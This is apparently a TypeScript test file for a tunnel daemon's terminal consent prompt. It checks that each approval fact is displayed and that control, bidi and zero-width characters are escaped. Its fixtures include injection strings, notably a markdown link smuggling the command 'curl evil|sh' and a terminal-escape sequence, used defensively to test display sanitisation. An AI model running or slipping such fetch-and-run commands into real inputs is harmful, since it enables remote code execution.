/** What a user at a terminal reads before approving. */
import assert from "node:assert/strict";
import { approve, factLines } from "../../../daemon/cli/consent.ts";
import { createOutput } from "../../../daemon/cli/output.ts";
import type { DaemonClient } from "../../../daemon/client/daemon-client.ts";
import type { ApprovalFacts } from "../../../shared/contract/methods.ts";
import { approvedFacts } from "../../support/status.ts";

describe("the facts to approve, at a terminal", () => {
  const facts: ApprovalFacts = approvedFacts();
  const before = factLines(facts).join("\n");

  const changes: { readonly [F in keyof Required<Omit<ApprovalFacts, "digest">>]: readonly ApprovalFacts[F][] } = {
    configPath: ["/srv/other/.vscode/tunnels.json"],
    name: ["orders"],
    role: ["server"],
    listen: ["127.0.0.1:6580"],
    beyondLoopback: [true],
    target: ["other.example.com:6479"],
    bind: ["192.0.2.1"],
    keys: [
      [{ source: "team", fingerprint: "cccc-dddd" }],
      [{ source: "other", fingerprint: "aaaa-bbbb" }],
      [{ source: "team", fingerprint: "aaaa-bbbb", shared: true }],
    ],
    env: [{ CACHE_URL: "redis://127.0.0.1" }],
    tls: [true],
    user: ["app"],
    database: ["shop"],
    forwardSecrecy: ["prefer", "off"],
    wire: ["spiped", "native"],
    backend: ["replica"],
    targets: [{ replica: "127.0.0.1:6380" }],
    allow: [["10.0.0.0/24:6379"]],
    approvedBefore: [true],
  };

  for (const [field, values] of Object.entries(changes)) {
    for (const value of values) {
      it(`show that ${field} is ${JSON.stringify(value)}`, () => {
        assert.notEqual(factLines({ ...facts, [field]: value }).join("\n"), before);
      });
    }
  }

  it("explain what it means that forward secrecy is off", () => {
    assert.match(factLines({ ...facts, forwardSecrecy: "off" }).join("\n"), /whoever gets the key later can read recorded traffic/);
  });

  /** The text for a user who is asked about these facts. */
  async function asked(more: Partial<ApprovalFacts>): Promise<string> {
    const shown: string[] = [];
    const sink = { write: (text: string) => shown.push(text), on: () => {} };
    const output = createOutput({ name: "tunneld", stdout: sink, stderr: sink, env: {} });
    const client = { request: () => Promise.resolve({ granted: true }) } as unknown as DaemonClient;
    await approve(client, { ...facts, ...more }, { yes: true, terminal: undefined, output });
    return shown.join("");
  }

  for (const [what, value] of [
    ["the address of a link", "[ls](;curl evil|sh)"],
    ["an image's address", "![x](;evil)"],
    ["the end of the longest value there can be", `${"x".repeat(4_095)}!`],
  ] as const) {
    it(`show ${what} in any fact`, async () => {
      const shown = await asked({
        env: { APP_CMD: value },
        user: value,
        database: value,
        listen: value,
        target: value,
        keys: [{ source: value, fingerprint: "a" }],
      });
      assert.equal(shown.split("\n").filter((line) => line.includes(value)).length, 6);
    });
  }

  it("show invisible characters as escapes, and leave nothing out", async () => {
    const shown = await asked({ env: { APP_CMD: "a\u001b[2K\r\n\u009b\u202e\u00ad\u200b\u{e0041}\u3164\u00a0b" } });
    assert.match(shown, /APP_CMD=a\\u\{1b\}\[2K\\u\{d\}\\u\{a\}\\u\{9b\}\\u\{202e\}\\u\{ad\}\\u\{200b\}\\u\{e0041\}\\u\{3164\}\\u\{a0\}b\n/);
    assert.doesNotMatch(shown, /[^\P{Cc}\n]|\p{Cf}/u);
  });
});
